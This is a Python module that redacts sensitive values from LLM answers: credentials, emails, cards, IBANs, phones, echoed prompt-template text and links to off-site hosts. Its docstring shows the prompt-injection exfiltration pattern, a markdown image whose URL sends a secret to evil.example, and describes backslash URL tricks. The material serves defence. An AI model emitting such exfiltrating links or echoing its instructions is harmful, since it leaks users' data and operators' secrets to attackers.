"""Output filtering (OWASP LLM02, sensitive information disclosure): redact what a model should not say.

A model can repeat personal data or credentials it saw in its prompt, its context or its
training data. :class:`Redactor` replaces such values in response text with markers like
``[REDACTED:email]`` and counts what it replaced, so callers can log or meter leaks
without logging the values themselves::

    result = Redactor().redact("Mail jane@example.com, card 4111 1111 1111 1111")
    result.text    # 'Mail [REDACTED:email], card [REDACTED:payment_card]'
    result.counts  # {'email': 1, 'payment_card': 1}

Kinds, in priority order (:data:`ALL_KINDS`); each kind runs on the output of the ones
before it, so a value is replaced once, by the first kind that claims it (a card number
inside an API key counts as one ``secret``, an IBAN's digits never count as a phone).
The first two are output-side defenses against prompt injection (OWASP LLM02/LLM05):
they do not depend on recognising the attack, only on what an answer must not contain.

``prompt_echo``
    Runs of at least ``echo_words`` consecutive words (default 8; case and whitespace
    ignored) that also appear, in that order, in the function's template, outside its
    ``{{...}}`` variables and ``<message>`` tags: an answer may quote a few words of its
    instructions, never the instructions themselves. Needs ``template=``; without one
    this kind finds nothing. A paraphrase or a translation of the template is not caught.
``link``
    Markdown images and links (inline ``![alt](url)`` / ``[text](url)``, reference
    definitions ``[id]: url``, autolinks ``<scheme:...>``) and HTML ``src``/``href``
    attributes whose URL leaves the page for a host not on ``link_hosts`` (default:
    none). A rendered image is fetched without a click, so a URL carrying data in its
    query (``![x](https://evil.example/?q=<secret>)``) leaks it; links need a click but
    carry the same payload. Only the destination is replaced (``![x][REDACTED:link]``),
    the visible text is kept. Relative URLs stay (they resolve to the page's own site);
    any other scheme (``javascript:``, ``data:``, ``mailto:``) is replaced. Backslashes,
    tabs and controls are read as browsers read them (``https:\\evil``, ``/\\evil``
    lead to evil). Bare URLs in prose are left alone: nothing fetches them unclicked.

``secret``
    Vendor-shaped tokens: PEM private-key blocks (a truncated block up to its last base64
    line), this service's ``skf_<12 hex>_<43 base64url>`` keys, OpenAI ``sk-…`` /
    ``sk-proj-…`` keys, Stripe ``sk_live_…``, GitHub ``ghp_…`` / ``github_pat_…``, Slack
    ``xox[baprse]-…``, AWS access key ids ``AKIA…``, Google ``AIza…``, JWTs
    ``eyJ….eyJ….…``, the token of a ``Bearer <token>`` header; then *generic* values
    assigned to a credential word (``api_key=``, ``"client_secret": "…"``,
    ``AccountKey=``, ``password: …``; the word is kept, only the value is replaced).
    A generic value must look random, because prose says "key: value" too: at least 16
    characters with a letter, a digit and a Shannon entropy of at least 3 bits per
    character (passwords: at least 8 characters with a digit). Words and hashes in
    prose are never secrets unless a credential word is assigned to them.
``email``
    ``local@domain.tld``; the top-level label must be alphabetic, trailing labels that
    are not (``a@b.com.123``) are left out.
``iban``
    Upper-case country code + 2 check digits + BBAN, contiguous or in groups of four,
    with the exact length registered for the country and a valid ISO 7064 mod-97
    checksum. Unknown country codes never match: the registry lists every IBAN country.
``payment_card``
    13-19 digits, contiguous or in card-shaped groups (4-4-4-4[-1..4], Amex 4-6-5,
    Diners 4-6-4) with one separator kind (space or dash); the first digit 2-6 (the
    ISO/IEC 7812 industries of the card networks; 13-digit epoch milliseconds start with
    1); a valid Luhn check digit; not glued to a word, a decimal point or a ``+`` (a
    phone), nor after an IBAN's ``DE89`` (an IBAN with a typo). In a run of more than 6
    digit groups (a table, a list) only contiguous 13-19 digit numbers count.
``phone``
    Deliberately conservative, it is the loosest shape: 9-15 digits, and either an
    international ``+CC`` number (separators space, dash, dot, ``(0)`` and parentheses
    allowed), a North American ``(415) 555-2671`` / ``415-555-2671`` / ``1-800-555-0199``
    with one separator kind, or a national number with a trunk ``0`` (``020 7946 0958``,
    ``06 12 34 56 78``, ``03-1234-5678``) with one separator kind. Never: bare digit runs
    (order numbers), years, prices, dates (too few digits or mixed separators), dotted
    quads (IP addresses), numbers glued to words, dots or dashes (versions, ids).

Two invariants hold for every rule of the value kinds (:data:`VALUE_KINDS`, all but
``prompt_echo`` and ``link``), and the tests check them:

* every replaced value contains an ASCII digit or an ``@`` (secrets must contain a digit:
  random tokens almost always do, prose-like strings rarely), and markers contain
  neither, so text without digits and ``@`` is returned unchanged, and the number of
  digits never grows;
* :meth:`Redactor.redact` is idempotent: it repeats its passes until one finds nothing
  (each replacement removes at least one digit or ``@``, so this terminates), because a
  replacement can expose a value that was glued to the replaced one. The output-side
  kinds keep idempotence too: a replaced link destination is the marker, which reads as
  a relative reference, and a replaced echo run of ``echo_words`` >= 3 words becomes a
  two-word marker, so each pass shortens the text's word count.

All patterns are linear-time on adversarial input: they are bounded, or their unbounded
parts are possessive (Python 3.11) and start only at the beginning of a run (a
lookbehind rejects every position inside one), and scanning resumes after each
candidate, so no character is scanned more than a constant number of times. They start
with a literal or a character class, so the engine skips to candidate positions;
e-mails are searched from their '@'. 100 k characters take tens of milliseconds.
"""

from __future__ import annotations

import re
from collections import Counter
from collections.abc import Iterable
from typing import TYPE_CHECKING

from sk_core.safety._common import (
    ALL_KINDS,
    DEFAULT_ECHO_WORDS,
    LINK,
    PROMPT_ECHO,
    RedactionResult,
    Span,
    _Finder,
    marker,
    replace_spans,
)
from sk_core.safety._links import _link_finder
from sk_core.safety._values import VALUE_FINDERS

if TYPE_CHECKING:
    from sk_core.safety._streaming import StreamingRedaction

# --- prompt echo ----------------------------------------------------------------------

# What a template renders that is not its own text: variables and function calls
# (SK, handlebars and jinja2 share the braces), jinja2 statements and comments, and the
# <message role="..."> tags SK turns into chat messages.
_TEMPLATE_MARKUP_RE = re.compile(r"\{\{.*?\}\}|\{%.*?%\}|\{#.*?#\}|</?message\b[^>]*>", re.DOTALL)
_WORD_RE = re.compile(r"\w+")


def template_literals(template: str) -> list[str]:
    """The literal text of a prompt template: the pieces between variables and tags."""
    return [piece for piece in _TEMPLATE_MARKUP_RE.split(template) if piece.strip()]


def _echo_finder(template: str, words: int) -> _Finder | None:
    """Runs of ``words`` or more consecutive template words in the text (None: nothing to protect)."""
    shingles: set[tuple[str, ...]] = set()
    for piece in template_literals(template):
        tokens = [w.casefold() for w in _WORD_RE.findall(piece)]
        shingles.update(tuple(tokens[i : i + words]) for i in range(len(tokens) - words + 1))
    if not shingles:
        return None

    def find(text: str) -> list[Span]:
        matches = list(_WORD_RE.finditer(text))
        tokens = [m.group().casefold() for m in matches]
        spans: list[Span] = []
        run_end = -1  # index of the last word of the current run
        for i in range(len(tokens) - words + 1):
            if tuple(tokens[i : i + words]) in shingles:
                last = i + words - 1
                if spans and i <= run_end + 1:  # overlaps or touches the current run
                    spans[-1] = (spans[-1][0], matches[last].end())
                else:
                    spans.append((matches[i].start(), matches[last].end()))
                run_end = last
        return spans

    return find


# --- the redactor ---------------------------------------------------------------------


class Redactor:
    """Replaces sensitive values of the chosen kinds with ``[REDACTED:<kind>]`` markers.

    ``link_hosts`` are the hosts whose links and images may stay (``*.example.com``
    allows its subdomains); ``template`` is the function's prompt template, whose text
    an answer must not echo for ``echo_words`` words or more in a row. Both only matter
    when their kind (``link``, ``prompt_echo``) is selected.

    Stateless and thread-safe: build one per configuration and share it.
    """

    def __init__(
        self,
        kinds: Iterable[str] = ALL_KINDS,
        *,
        link_hosts: Iterable[str] = (),
        template: str = "",
        echo_words: int = DEFAULT_ECHO_WORDS,
    ) -> None:
        wanted = set(kinds)
        unknown = wanted - set(ALL_KINDS)
        if unknown:
            raise ValueError(f"unknown redaction kinds: {sorted(unknown)}; known: {list(ALL_KINDS)}")
        if echo_words < 3:
            # Below three words, a replaced run would not shorten the text (the marker
            # itself reads as two words) and common phrases would be redacted.
            raise ValueError("echo_words must be at least 3")
        # Priority order is fixed, whatever order the caller listed the kinds in.
        self.kinds: tuple[str, ...] = tuple(kind for kind in ALL_KINDS if kind in wanted)
        finders = dict(VALUE_FINDERS)
        finders[LINK] = (_link_finder(link_hosts),)
        echo = _echo_finder(template, echo_words)
        finders[PROMPT_ECHO] = (echo,) if echo is not None else ()
        self._rules = [(kind, finder) for kind in self.kinds for finder in finders[kind]]
        # A stream is never cut after one of these: an echo run could continue there.
        self.template_words: frozenset[str] = frozenset(
            word.casefold()
            for piece in (template_literals(template) if echo is not None and PROMPT_ECHO in wanted else ())
            for word in _WORD_RE.findall(piece)
        )

    def stream(self) -> StreamingRedaction:
        """A redaction of a text arriving in pieces that releases exactly ``redact(whole)``."""
        from sk_core.safety._streaming import StreamingRedaction  # it builds on this module

        return StreamingRedaction(self)

    def redact(self, text: str) -> RedactionResult:
        """Replace every value of the configured kinds; count the replacements per kind."""
        counts: Counter[str] = Counter()
        # Rules run in priority order, each on the previous one's output, so a value is
        # replaced once. Then again, until a pass finds nothing: a replacement can expose
        # a neighbour that was glued to the value (and idempotence needs a fixpoint).
        while True:
            found = 0
            for kind, finder in self._rules:
                spans = finder(text)
                if spans:
                    text = replace_spans(text, spans, marker(kind))
                    counts[kind] += len(spans)
                    found += len(spans)
            if not found:
                return RedactionResult(text=text, counts=dict(counts))


_DEFAULT = Redactor()


def redact(text: str) -> RedactionResult:
    """Redact every kind, with a shared :class:`Redactor`."""
    return _DEFAULT.redact(text)
